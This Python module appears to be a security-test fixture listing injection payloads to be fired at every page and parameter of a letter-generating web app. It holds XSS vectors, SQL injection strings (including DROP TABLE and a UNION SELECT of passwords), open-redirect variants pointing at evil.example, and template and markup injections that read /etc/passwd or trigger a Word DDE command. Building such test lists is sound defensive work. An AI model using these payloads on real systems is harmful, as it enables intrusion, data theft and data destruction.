"""What attackers write into fields, to be held against every page and every parameter."""

from itertools import product

CANARY = "__xss"
_RUN = f"{CANARY}=1"
_BREAKS = ["", '">', "'>", "</textarea>", "</title></style>", "--></script>"]
_VECTORS = [
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<math><mi xlink:href=javascript:{_RUN}>",
    f"<style>@import'//evil.example'</style><img src=x onerror={_RUN}>",
    f"<object data=javascript:{_RUN}>",
    f"<form action=javascript:{_RUN}><button>x",
    f"<div hx-on:load={_RUN} hx-get=/ hx-trigger=load>",
    f"<base href=//evil.example/><script src=x></script>{_RUN}",
    f'" onmouseover={_RUN} x="',
    f"' autofocus onfocus={_RUN} x='",
    "{{7*7}}{% debug %}${7*7}{0.__class__}",
    f"\u2028<img/src=`x`onerror={_RUN}>",
]
XSS = [before + vector for before, vector in product(_BREAKS, _VECTORS)]

_QUOTES = ["", "'", '"', "')", "1'", "%27"]
_CLAUSES = [
    " OR 1=1--",
    " OR 'a'='a",
    "; DROP TABLE renda_event;--",
    " UNION SELECT password FROM renda_user--",
    " AND pg_sleep(5)--",
    " AND 1=randomblob(500000000)--",
    "||(SELECT 1)||",
    "/**/OR/**/1=1#",
    "\\' OR 1=1--",
    " COLLATE nocase;",
]
SQL = [quote + clause for quote, clause in product(_QUOTES, _CLAUSES)]

REDIRECTS = [
    "//evil.example", "///evil.example", "////evil.example", "https://evil.example",
    "http://evil.example", "HTTPS://EVIL.EXAMPLE", "https:evil.example", "https:/evil.example",
    "http:///evil.example", "http:\\\\evil.example", "\\\\evil.example", "/\\evil.example",
    "\\/evil.example", "/\t/evil.example", "/\n/evil.example", "/\r/evil.example",
    "\t//evil.example", " //evil.example", "\x00//evil.example", "\x08//evil.example",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "data:text/html,x",
    "vbscript:x", "file:///etc/passwd", "ftp://evil.example", "//testserver@evil.example",
    "https://testserver@evil.example", "https://testserver.evil.example",
    "//testserver.evil.example", "https://evil.example#testserver",
    "https://evil.example?testserver", "https://evil.example/testserver", "//evil%2eexample",
    "//evil。example", "https://evil。example", "//[::ffff:1.2.3.4]", "//0x7f000001",
    "https://testserver:80@evil.example",
]  # fmt: skip

MARKUP = [  # of what letters are made with: typst, docxtpl, the XML of Word
    '#read("/etc/passwd")', '#import "letter.typ": *', '#include "/etc/passwd"', '#eval("7*7")',
    "#sys.inputs", "#{ 7 * 7 }", "#panic()", '#link("https://evil.example")[x]', "#pagebreak()",
    '#image("/etc/passwd")', "#set text(red)", "#show: none", "#[", "#", "]", "[", "}", "{", ")",
    "$x$", "$ sum_(i=0)^n $", "$", "*b*", "*", "_i_", "_", "@label", "<label>", "\\", "\\\\", "\\#",
    "\\u{1f600}", "//", "// x", "/*", "*/", "/* x */", "`raw`", "```typ #read(1)```", "`", "~",
    "--", "---", "...", "'q' \"q\"", "= x", "== x", "- x", "+ x", "1. x", "/ x: y", "# x", "> x",
    "https://evil.example", "mailto:x@evil.example", "file:///etc/passwd",
    "{{ 7*7 }}", "{{", "}}", "{% for it in range(9) %}", "{% endfor %}", "{%p if x %}", "{%", "%}",
    "{# x #}", "{#", "{{ ''.__class__ }}", "{{r x }}", "{%- raw -%}", "{_{ x }_}", "{{ org }}",
    "<w:p/>", "</w:t></w:r></w:p>", '<w:instrText>DDEAUTO c:\\x "/c calc"</w:instrText>',
    "<![CDATA[x]]>", "]]>", "<!-- x", "-->", "<?xml version='1.0'?>", "<!DOCTYPE x [", "&lt;",
    "&amp;lt;", "&#60;", "&x;", "&", "<", ">", "=HYPERLINK(\"http://evil.example\")",
    "<< /S /URI >>", "endstream endobj", "(", "%PDF-1.7", "%%EOF",
]  # fmt: skip
